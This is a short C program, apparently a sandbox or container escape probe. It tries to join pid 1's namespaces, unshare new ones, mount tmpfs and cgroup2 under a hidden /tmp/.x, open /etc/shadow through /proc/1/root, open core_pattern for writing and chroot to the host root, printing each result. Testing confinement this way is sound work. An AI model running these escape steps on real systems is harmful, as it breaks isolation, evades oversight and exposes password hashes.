// Tries to get out of where it is: new namespaces, a mount in them, the namespaces and the root of pid 1.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    static const char *const spaces[] = {"mnt", "pid", "net", "uts", "ipc", "user"};
    for (int i = 0; i < 6; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/1/ns/%s", spaces[i]);
        int fd = open(path, O_RDONLY);
        printf("setns %s %d\n", spaces[i], fd < 0 ? -1 : setns(fd, 0));
    }
    int made = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET);
    printf("unshare %d\n", made);
    fflush(stdout);
    mkdir("/tmp/.x", 0700);
    printf("mount %d\n", mount("none", "/tmp/.x", "tmpfs", 0, NULL));
    printf("cgroup %d\n", mount("none", "/tmp/.x", "cgroup2", 0, NULL));
    printf("shadow %d\n", open("/proc/1/root/etc/shadow", O_RDONLY));
    printf("core_pattern %d\n", open("/proc/sys/kernel/core_pattern", O_WRONLY));
    printf("chroot %d\n", chroot("/proc/1/root"));
}
